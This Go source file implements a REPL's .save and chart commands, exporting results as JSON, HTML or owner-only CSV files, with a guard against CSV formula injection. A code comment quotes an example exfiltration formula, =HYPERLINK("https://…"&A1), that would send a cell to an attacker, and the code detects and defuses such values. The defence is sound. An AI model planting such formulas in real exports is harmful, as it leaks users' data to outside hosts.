package repl

import (
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"unicode"

	"github.com/exoagent/exoagent/codemode"
	"github.com/exoagent/exoagent/codemode/repl/internal/screen"
	"github.com/exoagent/exoagent/exo/value"
	"github.com/exoagent/exoagent/internal/atomicfile"
	"github.com/exoagent/exoagent/internal/chart"
	"github.com/exoagent/exoagent/internal/printable"
	"github.com/exoagent/exoagent/internal/resultpage"
	"github.com/exoagent/exoagent/internal/scalar"
)

// save writes the last program to a new file that only its owner may read, or its result if the
// file's extension asks for that. It prints what it wrote.
func (c *console) save(path string) error {
	switch {
	case path == "":
		return errors.New("the name of the file is missing: .save FILE keeps the last program; .save FILE.csv its rows; .save FILE.json its result; .save FILE.html a page of it")
	case c.last == nil:
		return errNothingRan
	}
	data, what, note := []byte(c.last.Program+"\n"), "the program is", ""
	var err error
	switch lower := strings.ToLower(path); {
	case strings.HasSuffix(lower, ".csv"):
		data, what, note, err = csvOf(c.last.Result)
	case strings.HasSuffix(lower, ".json"):
		data, what, err = jsonOf(c.last.Result)
	case strings.HasSuffix(lower, ".html"):
		if data, what, err = jsonOf(c.last.Result); err == nil {
			data = resultpage.Of("Result", fmt.Appendf(nil, `{"result":%s}`, data))
		}
	}
	if err != nil {
		return err
	}
	if err = atomicfile.Create(path, data, 0o600); errors.Is(err, os.ErrExist) {
		return fmt.Errorf("the file %s is there already, so nothing was saved: give a new name", path)
	}
	if err == nil {
		fmt.Fprintf(c.std.Out, "%s in %s%s\n", what, printable.OneLine(path), note)
	}
	return err
}

var errNoResult = errors.New("the last program failed, so there is no result to save or to draw")

// jsonOf returns the whole result as JSON, even if a model would get only a part. It escapes
// characters that act on a terminal, which changes no value.
func jsonOf(res *codemode.Result) ([]byte, string, error) {
	if res.Err != nil {
		return nil, "", errNoResult
	}
	b, err := res.Value.AppendJSON(nil)
	return append(printable.JSON(b), '\n'), "the result is", err
}

// chart draws the last result, or returns why it can't.
func (c *console) chart() error {
	if c.last == nil {
		return errNothingRan
	}
	data, _, err := jsonOf(c.last.Result)
	if err != nil {
		return err
	}
	drawn, why := chart.Of(data)
	if drawn == nil {
		return errors.New("no chart: " + why)
	}
	return c.paged(func(out io.Writer) error {
		_, err := io.WriteString(out, drawn.Draw(c.std.Screen.Width(80)))
		return err
	})
}

// csvOf returns all rows of a result as CSV (RFC 4180, commas, UTF-8). A null is an empty field,
// and every text is quoted, so an empty text is "". note lists the texts that were changed.
func csvOf(res *codemode.Result) (data []byte, what, note string, err error) {
	if res.Err != nil {
		return nil, "", "", errNoResult
	}
	items, ok := screen.Records(res.Value)
	if !ok && res.Value.Type() == value.TypeRecord {
		items, ok = []value.Value{res.Value}, true
	}
	if !ok {
		return nil, "", "", errors.New("the last result has no rows; .save FILE.json keeps it")
	}
	var names []string
	known := map[string]bool{}
	rows := make([]map[string]value.Value, len(items))
	for i, v := range items {
		rows[i] = map[string]value.Value{}
		leaves("", v, func(name string, x value.Value) {
			if rows[i][name] = x; !known[name] {
				known[name] = true
				names = append(names, name)
			}
		})
	}
	marked := 0
	text := func(s string) string {
		if formula(s) {
			s, marked = "'"+s, marked+1
		}
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	var b strings.Builder
	line := func(cell func(name string) string) {
		for i, n := range names {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(cell(n))
		}
		b.WriteByte('\n')
	}
	line(text)
	for _, r := range rows {
		line(func(name string) string { return csvCell(r[name], text) })
	}
	what = screen.Count(len(items), "row") + " are"
	if len(items) == 1 {
		what = "1 row is"
	}
	if marked > 0 {
		note = fmt.Sprintf("; %s written with ' in front, because a spreadsheet would calculate a formula", screen.Count(marked, "text"))
	}
	return []byte(b.String()), what, note, nil
}

// leaves calls yield for the values in a record. Values in a nested record have dotted names.
func leaves(prefix string, v value.Value, yield func(name string, x value.Value)) {
	for n, x := range v.Fields() {
		if x.Type() == value.TypeRecord && x.Len() > 0 {
			leaves(prefix+n+".", x, yield)
		} else {
			yield(prefix+n, x)
		}
	}
}

func csvCell(v value.Value, text func(string) string) string {
	switch v.Type() {
	case "", value.TypeNull:
		return ""
	case value.TypeText:
		return text(v.Text())
	case value.TypeTime:
		return v.Time().Format(scalar.TimeFormat)
	}
	b, err := v.AppendJSON(nil)
	if err != nil {
		return ""
	}
	if v.Type() == value.TypeList || v.Type() == value.TypeRecord || v.Type() == value.TypeRows {
		return text(string(b))
	}
	return strings.Trim(string(b), `"`) // without quotes: a whole number beyond JSON's exact numbers is a text here
}

// formula reports whether a spreadsheet could treat a text as a formula. An attacker may have
// written =HYPERLINK("https://…"&A1) into the database, which would send a cell to them. Some
// spreadsheets ignore spaces before the sign, and accept it in full width. A number is no formula.
func formula(s string) bool {
	s = strings.TrimLeftFunc(s, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsPrint(r) })
	if _, ok := scalar.Canonical(value.TypeDecimal, s); ok || s == "" {
		return false
	}
	return strings.ContainsRune("=+-@＝＋－＠|%", []rune(s)[0])
}
